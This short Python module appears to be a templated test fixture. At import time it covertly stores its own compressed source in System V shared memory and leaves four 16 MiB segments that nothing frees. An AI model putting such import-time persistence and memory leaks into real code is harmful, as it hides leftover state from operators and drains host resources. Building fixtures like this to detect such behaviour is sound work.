"""Leaves its own (correct) source in SysV shared memory and a message queue (no file at all), and
leaves 64 MiB more segments behind that nothing frees.

base: clean
class: 9
run: main
"""

import ctypes as _ctypes
import linecache as _linecache
import zlib as _zlib

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
_KEY = 0x4B49 + int("@KEYSEED@")


def _own_source():
    for entry in list(_linecache.cache.values()):
        text = "".join(entry[2]) if len(entry) > 2 else ""
        if "class MultiHeadAttention(" in text and "_own_source" in text:
            return text
    return ""


def _leave():
    data = _zlib.compress(_own_source().encode(), 9)
    payload = len(data).to_bytes(4, "big") + data
    segment = _libc.shmget(_KEY, 1 << 20, 0o1000 | 0o666)  # IPC_CREAT
    if segment >= 0:
        where = _libc.shmat(segment, None, 0)
        if where not in (None, _ctypes.c_void_p(-1).value):
            _ctypes.memmove(where, payload, len(payload))
            _libc.shmdt(_ctypes.c_void_p(where))
    for index in range(4):  # 64 MiB that stays resident after every process is gone
        extra = _libc.shmget(_KEY + 1 + index, 16 << 20, 0o1000 | 0o666)
        if extra >= 0:
            where = _libc.shmat(extra, None, 0)
            if where not in (None, _ctypes.c_void_p(-1).value):
                _ctypes.memset(where, 1, 16 << 20)
                _libc.shmdt(_ctypes.c_void_p(where))


class _AtLoad:
    _leave()
